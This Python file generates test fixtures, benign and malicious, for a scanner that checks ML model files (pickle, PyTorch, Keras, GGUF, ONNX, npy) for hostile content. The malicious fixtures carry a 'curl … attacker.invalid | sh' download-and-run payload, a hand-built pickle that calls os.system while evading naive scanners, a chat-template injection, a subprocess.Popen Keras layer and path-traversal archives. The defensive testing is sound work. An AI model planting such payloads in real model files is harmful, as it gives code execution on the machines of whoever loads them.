"""Fixture generators for the model-artifact controls (listed in the package's ``GENERATORS``).

Each writes model files into a case folder. The malicious ones only *describe* a call of
``os.system`` and friends in pickle opcodes; nothing is ever run, and they are written fresh
for every fixture run instead of being committed.
"""

from __future__ import annotations

import gzip
from collections.abc import Callable
from pathlib import Path

from mlsec_policy.policytest import forge

Generator = Callable[[Path], None]


def _writer(files: Callable[[], dict[str, bytes]]) -> Generator:
    def generate(folder: Path) -> None:
        for name, data in files().items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)

    return generate


def _pickle_payload(protocol: int) -> Generator:
    return _writer(
        lambda: {"model.pkl": forge.dumps({"w": [1.0, 2.0], "x": forge.payload()}, protocol)}
    )


def _benign_state_dict() -> dict[str, object]:
    return forge.state_dict({"encoder.weight": (4, 8), "encoder.bias": (4,)})


def _malicious_state_dict() -> dict[str, object]:
    state = _benign_state_dict()
    state["_hook"] = forge.payload("curl -s https://attacker.invalid/x | sh")
    return state


def _memo_indirect() -> dict[str, bytes]:
    # "os" and "system" are memoized, then fetched back with BINGET before STACK_GLOBAL:
    # scanners that only look at the two opcodes before STACK_GLOBAL miss it.
    data = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94N0h\x00h\x01\x93\x8c\x02id\x85R."
    return {"checkpoint.bin": data}


def _truncated() -> dict[str, bytes]:
    whole = forge.dumps([forge.payload(), list(range(200))], 2)
    return {"model.pkl": whole[: len(whole) // 2]}


def _mismatch_zip() -> dict[str, bytes]:
    archive = forge.zip_of({"weights.pkl": forge.dumps({"w": [0.5]}, 2)})
    return {"bundle.zip": forge.rename_local_header(archive, "weights.pkl", "weights.txt")}


def _column_index() -> dict[str, bytes]:
    # what pandas writes for pickle.dump(df.columns): an Index rebuilt from a dict of its data
    base = "pandas.core.indexes.base"
    names = [f"feature_{i}" for i in range(40)]
    index = forge.Name(base, "_new_Index")(forge.Name(base, "Index"), {"data": names, "name": None})
    return {"columns.pkl": forge.dumps(index, 4)}


def _estimator() -> dict[str, bytes]:
    model = forge.Name("sklearn.linear_model._logistic", "LogisticRegression")()
    return {"churn_classifier.pkl": forge.dumps(model, 4)}


GENERATORS: dict[str, Generator] = {
    "pickle-column-index": _writer(_column_index),
    "pickle-sklearn-estimator": _writer(_estimator),
    **{f"pickle-os-system-p{p}": _pickle_payload(p) for p in range(6)},
    "pickle-memo-stack-global": _writer(_memo_indirect),
    "pickle-benign": _writer(
        lambda: {"model.pkl": forge.dumps({"epoch": 3, "weights": [0.1, 0.2], "name": "m"}, 4)}
    ),
    "pickle-truncated": _writer(_truncated),
    "pickle-renamed-txt": _writer(lambda: {"notes.txt": forge.dumps(forge.payload(), 0)}),
    "pickle-renamed-safetensors": _writer(
        lambda: {"model.safetensors": forge.dumps(_benign_state_dict(), 2)}
    ),
    "pickle-gzip-joblib": _writer(
        lambda: {"model.joblib": gzip.compress(forge.dumps(forge.payload(), 4), mtime=0)}
    ),
    "torch-zip-benign": _writer(
        lambda: {"pytorch_model.bin": forge.torch_zip(_benign_state_dict())}
    ),
    "torch-zip-malicious": _writer(lambda: {"model.pt": forge.torch_zip(_malicious_state_dict())}),
    "torch-zip-streamed-benign": _writer(
        lambda: {"model.pt": forge.torch_zip(_benign_state_dict(), prefix="model", streamed=True)}
    ),
    "torch-zip-streamed-malicious": _writer(
        lambda: {
            "model.pt": forge.torch_zip(_malicious_state_dict(), prefix="model", streamed=True)
        }
    ),
    "torch-zip-missing-storage": _writer(
        lambda: {"model.pt": forge.torch_zip(_benign_state_dict(), skip_storages=["1"])}
    ),
    "zip-nested-malicious": _writer(
        lambda: {
            "release.zip": forge.zip_of(
                {
                    "inner/checkpoint.zip": forge.zip_of(
                        {"model.pkl": forge.dumps(forge.payload(), 4)}, True
                    )
                }
            )
        }
    ),
    "zip-traversal": _writer(lambda: {"bundle.zip": forge.zip_of({"../../evil.txt": b"hello"})}),
    "zip-name-mismatch": _writer(_mismatch_zip),
    "zip-benign": _writer(
        lambda: {
            "bundle.zip": forge.zip_of(
                {
                    "README.txt": b"weights below",
                    "model.safetensors": forge.safetensors({"w": ("F32", [1], (0, 4))}, 4),
                }
            )
        }
    ),
    "keras-benign": _writer(lambda: {"model.keras": forge.keras_zip(forge.keras_dense_config())}),
    "keras-lambda": _writer(
        lambda: {
            "model.keras": forge.keras_zip(
                forge.keras_dense_config(
                    [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "fn"}}]
                )
            )
        }
    ),
    "keras-foreign-module": _writer(
        lambda: {
            "model.keras": forge.keras_zip(
                forge.keras_dense_config(
                    [{"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}}]
                )
            )
        }
    ),
    "safetensors-benign": _writer(
        lambda: {"model.safetensors": forge.safetensors({"w": ("F32", [2, 2], (0, 16))}, 16)}
    ),
    "safetensors-overlap": _writer(
        lambda: {
            "model.safetensors": forge.safetensors(
                {"a": ("F32", [2, 2], (0, 16)), "b": ("F32", [2, 2], (8, 24))}, 24
            )
        }
    ),
    "gguf-benign": _writer(
        lambda: {
            "model.gguf": forge.gguf(
                {"tokenizer.chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}
            )
        }
    ),
    "gguf-template-injection": _writer(
        lambda: {
            "model.gguf": forge.gguf(
                {"tokenizer.chat_template": "{{ cycler.__init__.__globals__.os.popen('id') }}"}
            )
        }
    ),
    "onnx-benign": _writer(
        lambda: {"model.onnx": forge.onnx("model.onnx.data"), "model.onnx.data": bytes(4)}
    ),
    "onnx-external-escape": _writer(lambda: {"model.onnx": forge.onnx("../../../etc/passwd")}),
    "npy-object-array": _writer(
        lambda: {"embeddings.npy": forge.npy("|O", (1,), forge.dumps([forge.payload()], 3))}
    ),
    "npy-benign": _writer(lambda: {"embeddings.npy": forge.npy("<f4", (2, 2), bytes(16))}),
}
"""Generator name → function, for the fixture registry."""
